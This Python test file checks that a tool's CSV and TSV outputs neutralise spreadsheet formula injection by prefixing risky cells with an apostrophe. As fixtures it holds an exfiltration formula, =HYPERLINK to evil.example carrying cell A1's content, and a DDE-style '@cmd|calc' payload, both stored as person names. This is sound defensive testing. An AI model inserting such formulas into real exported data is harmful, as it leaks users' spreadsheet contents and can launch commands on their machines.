"""Spreadsheet-safe CSV/TSV (issue 16): cells a spreadsheet would evaluate get a leading apostrophe
in every CSV and TSV output, unless --raw-csv."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner

from repnet.cli import cli
from repnet.graph.csvsafe import NUMBER, csv_cells_neutralised, csv_text, neutralise, tsv_terms_neutralised, tsv_text

from .conftest import write
from .fixtures.bad_sources import source
from .test_serve import running

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-3 days", "'-3 days"), (FORMULA, "'" + FORMULA),
    ("-3", "-3"), ("+1.5", "+1.5"), ("-2e-3", "-2e-3"), ("-.5", "-.5"),  # plain numbers stay numbers
    ("Ales Bialiatski", "Ales Bialiatski"), ("", ""), ("a=b", "a=b"), ("'=1", "'=1"),
])
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_csv_and_tsv_results_text() -> None:
    assert csv_text('name,n\r\n"=1+1,2",-3\r\n@x,4\r\n') == 'name,n\r\n"\'=1+1,2",-3\r\n\'@x,4\r\n'
    assert csv_text("=a\r\n=b\r\n", raw=True) == "=a\r\n=b\r\n"
    tsv = '?name\t?n\n"=1+1"@en\t-3\n"-4"^^<http://www.w3.org/2001/XMLSchema#integer>\t<http://x/=y>\n'
    assert tsv_text(tsv) == ('?name\t?n\n"\'=1+1"@en\t-3\n"-4"^^<http://www.w3.org/2001/XMLSchema#integer>\t'
                             '<http://x/=y>\n')


# Values whose cells a spreadsheet would evaluate, values that only look like it (numbers, a
# comma or line break before a trigger inside a quoted cell), and plain ones.
_VALUES = ["=1+1", "+1", "-3", "-3 days", "@x", "\t=1", "\r=1", "\r\n=2", "a,=b", "a\n=b", '"=q"', "plain", "",
           "x@y", "2-3"]


@pytest.mark.parametrize("value", _VALUES)
@pytest.mark.parametrize("where", range(3))
def test_the_quick_look_never_passes_over_a_cell_to_neutralise(value: str, where: int) -> None:
    # Oxigraph's CSV and TSV of a result holding the value in its first, middle or last column,
    # as a literal (TSV writes its lexical form in quotes) and, for CSV, as the first row's cell
    store = ox.Store()
    cells = ['"plain"', '"plain"', '"plain"']
    cells[where] = ox.Literal(value).__str__() if value else "UNDEF"
    query = f"SELECT ?a ?b ?c WHERE {{ VALUES (?a ?b ?c) {{ ({' '.join(cells)}) (\"z\" \"y\" 4) }} }}"
    for fmt, quick, slow in ((ox.QueryResultsFormat.CSV, csv_text, csv_cells_neutralised),
                             (ox.QueryResultsFormat.TSV, tsv_text, tsv_terms_neutralised)):
        text = (store.query(query).serialize(format=fmt) or b"").decode()
        assert quick(text) == slow(text), (fmt, text)
    headless = (store.query(query).serialize(format=ox.QueryResultsFormat.CSV) or b"").decode().split("\r\n", 1)[1]
    assert csv_text(headless, header=False) == csv_cells_neutralised(headless, header=False)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose person names are formulas."""
    root = tmp_path_factory.mktemp("csv-store")
    src = write(root.parent / "formulas.yaml", source(records=[
        "{id: person/f, type: Person, name: '" + FORMULA.replace("'", "''") + "'}",
        "{id: person/g, type: Person, name: '@cmd|calc', names: ['-2+3']}",
        "{id: membership/m, type: Membership, person: person/f, organization: org/tester, role: member}"]))
    result = CliRunner().invoke(cli, ["--store", str(root), "build", str(src)])
    assert result.exit_code == 0, result.output
    return root


def _cells(text: str, delimiter: str = ",") -> set[str]:
    return {c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row}


QUERY = "SELECT ?name WHERE { ?p a schema:Person ; skos:prefLabel ?name } ORDER BY ?name"


def test_query_csv_neutralises_formulas_and_raw_csv_keeps_them(hostile_store: Path) -> None:
    r = CliRunner().invoke(cli, ["--store", str(hostile_store), "query", "-e", QUERY, "--format", "csv"])
    assert _cells(r.stdout) == {"name", "'" + FORMULA, "'@cmd|calc", "Person A"}
    raw = CliRunner().invoke(cli, ["--store", str(hostile_store), "--raw-csv", "query", "-e", QUERY, "--format", "csv"])
    assert _cells(raw.stdout) == {"name", FORMULA, "@cmd|calc", "Person A"}
    tsv = CliRunner().invoke(cli, ["--store", str(hostile_store), "query", "-e", QUERY, "--format", "tsv"])
    assert tsv.stdout.splitlines()[1:3] == ['"\'' + FORMULA.replace('"', '\\"') + '"@en', "\"'@cmd|calc\"@en"]


def test_export_csv_neutralises_formulas(hostile_store: Path, tmp_path: Path) -> None:
    r = CliRunner().invoke(cli, ["--store", str(hostile_store), "export", "csv", "-o", str(tmp_path / "t")])
    assert r.exit_code == 0, r.output
    persons = (tmp_path / "t" / "persons.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA in _cells(persons) and FORMULA not in _cells(persons)
    assert [c for c in _cells(persons) if c[:1] in ("=", "+", "-", "@") and not NUMBER.fullmatch(c)] == []


def test_export_network_csv_neutralises_formulas_unless_raw(hostile_store: Path, tmp_path: Path) -> None:
    for raw, expected in ((False, "'" + FORMULA), (True, FORMULA)):
        out = tmp_path / f"net-{raw}"
        args = ["--store", str(hostile_store)] + (["--raw-csv"] if raw else []) + ["export", "network-csv", "-o", str(out)]
        r = CliRunner().invoke(cli, args)
        assert r.exit_code == 0, r.output
        nodes = list(csv.DictReader(io.StringIO((out / "nodes.csv").read_text(encoding="utf-8"))))
        assert expected in {n["Label"] for n in nodes}


def test_analyze_and_stats_csv_neutralise_formulas(hostile_store: Path) -> None:
    r = CliRunner().invoke(cli, ["--store", str(hostile_store), "analyze", "centrality", "--format", "csv"])
    assert r.exit_code == 0, r.output
    cells = _cells(r.stdout)
    assert "'" + FORMULA in cells and FORMULA not in cells
    r = CliRunner().invoke(cli, ["--store", str(hostile_store), "analyze", "centrality", "--format", "tsv"])
    assert "'" + FORMULA in _cells(r.stdout, "\t")


def test_endpoint_csv_and_tsv_neutralise_formulas(hostile_store: Path, tmp_path: Path) -> None:
    from .test_serve import get

    with running(hostile_store, tmp=tmp_path) as e:
        status, _, body = get(e, QUERY, "text/csv")
        assert status == 200 and _cells(body.decode()) == {"name", "'" + FORMULA, "'@cmd|calc", "Person A"}
        status, _, body = get(e, QUERY, "text/tab-separated-values")
        assert body.decode().splitlines()[1:3] == ['"\'' + FORMULA.replace('"', '\\"') + '"@en', "\"'@cmd|calc\"@en"]
    with running(hostile_store, "--raw-csv", tmp=tmp_path) as e:
        assert _cells(get(e, QUERY, "text/csv")[2].decode()) == {"name", FORMULA, "@cmd|calc", "Person A"}
